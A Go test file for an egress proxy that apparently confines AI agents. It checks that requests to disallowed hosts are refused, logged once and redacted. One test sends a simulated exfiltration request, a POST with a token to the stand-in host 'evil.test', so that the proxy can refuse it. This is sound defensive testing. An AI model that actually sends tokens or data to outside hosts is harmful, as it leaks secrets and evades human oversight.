package egressproxy

import (
	"crypto/tls"
	"fmt"
	"net"
	"net/http"
	"testing"
	"time"

	"github.com/bot-bottle/bot-bottle/schemas"
)

// denialEvents returns the denial events published so far, by id.
func denialEvents(t *testing.T, f *fixture) map[string][]schemas.Denial {
	t.Helper()
	out := map[string][]schemas.Denial{}
	for _, ev := range f.pub.Events() {
		if ev.Kind != schemas.KindDenial {
			continue
		}
		var d schemas.Denial
		if err := ev.Decode(&d); err != nil {
			t.Fatal(err)
		}
		out[d.ID] = append(out[d.ID], d)
	}
	return out
}

// TestRefusedTunnelRecordsTheRequest: for HTTPS to a host no route admits,
// the stored denial is the request the agent sent inside the tunnel
// (method, host, port, redacted path), the same fact its 403 carries, once
// per denial id; not the CONNECT that opened the tunnel.
func TestRefusedTunnelRecordsTheRequest(t *testing.T) {
	f := newFixture(t, defaultRoutes)
	resp, body := f.rawMITM("evil.test:443", "POST /data/report.json?token=abc HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
	den := wantReason(t, resp, body, ReasonHostNotAllowed)
	stored := denialEvents(t, f)[den.ID]
	if len(stored) != 1 {
		t.Fatalf("%d events for denial %s, want 1", len(stored), den.ID)
	}
	got := stored[0]
	if got.Method != "POST" || got.Path != "/data/report.json?[redacted]" || got.Host != "evil.test" || got.Port != 443 {
		t.Fatalf("stored %s %s:%d%s, the agent got %s %s", got.Method, got.Host, got.Port, got.Path, den.Method, den.Path)
	}
	if got.Method != den.Method || got.Path != den.Path || got.Reason != den.Reason {
		t.Fatalf("the event (%+v) is not the 403 (%+v)", got, den)
	}
	if recent := f.proxy.RecentDenials(1); len(recent) != 1 || recent[0].ID != den.ID || recent[0].Method != "POST" {
		t.Fatalf("recent denials: %+v", recent)
	}
}

// TestRefusedTunnelWithoutRequest: a refused tunnel in which no request
// arrives (the client gave up at the TLS handshake) keeps the CONNECT-level
// fact, recorded once when the tunnel ends.
func TestRefusedTunnelWithoutRequest(t *testing.T) {
	f := newFixture(t, defaultRoutes)
	before := countDenials(f)
	c, err := net.Dial("tcp", f.proxyURL.Host)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "CONNECT quiet.test:443 HTTP/1.1\r\nHost: quiet.test:443\r\n\r\n")
	buf := make([]byte, 512)
	if _, err := c.Read(buf); err != nil {
		t.Fatal(err)
	}
	// A TLS client that does not trust the bottle's CA aborts the handshake.
	_ = tls.Client(c, &tls.Config{ServerName: "quiet.test"}).Handshake()
	c.Close()
	var evs map[string][]schemas.Denial
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if countDenials(f) > before {
			break
		}
	}
	evs = denialEvents(t, f)
	if n := countDenials(f) - before; n != 1 {
		t.Fatalf("%d denial events for a refused tunnel with no request, want 1", n)
	}
	for _, ds := range evs {
		if d := ds[0]; d.Host == "quiet.test" && (d.Method != http.MethodConnect || d.Path != "") {
			t.Fatalf("the CONNECT-level fact is %+v", d)
		}
	}
}
